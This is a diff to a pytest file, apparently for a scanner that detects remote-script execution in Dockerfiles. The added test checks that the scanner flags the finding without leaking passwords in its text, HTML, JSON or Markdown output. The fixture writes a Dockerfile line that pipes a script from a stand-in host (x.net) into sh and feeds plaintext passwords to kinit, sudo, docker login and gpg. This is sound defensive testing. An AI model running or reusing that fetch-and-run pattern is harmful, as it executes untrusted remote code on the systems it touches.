@@ -66,6 +66,31 @@ def test_a_diff_shows_no_password_that_a_command_is_given(
     assert PASSWORD[:8] not in shown
 
 
+@pytest.mark.parametrize(
+    "command",
+    [
+        "kinit a <<< {0}",
+        "echo {0} | kinit a",
+        "expect -c 'send {0}'",
+        "sudo -S ls <<< {0}",
+        "openssl enc -k {0} -in a",
+        "docker login --password-stdin r <<< {0}",
+        "gpg --batch --passphrase-fd 0 -d a <<< {0}",
+    ],
+)
+@pytest.mark.parametrize("form", ["text", "html", "json", "markdown"])
+def test_no_excerpt_shows_a_password_that_a_program_reads(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], command: str, form: str
+) -> None:
+    (tmp_path / "README.md").write_text(CARD.format(sdk="docker"))
+    run = f"RUN curl -s http://x.net/i.sh | sh && {command.format(PASSWORD)}"
+    (tmp_path / "Dockerfile").write_text(f"FROM python:3\n{run}\nCMD python app.py\n")
+    main([str(tmp_path), "--select", "remote-script", "--format", form])
+    told = capsys.readouterr()
+    assert "remote-script" in told.out
+    assert PASSWORD[:8] not in told.out + told.err
+
+
 @pytest.mark.parametrize("before", range(440, 500, 7))
 def test_a_token_across_the_cut_of_a_line_is_masked(
     tmp_path: Path, capsys: pytest.CaptureFixture[str], before: int
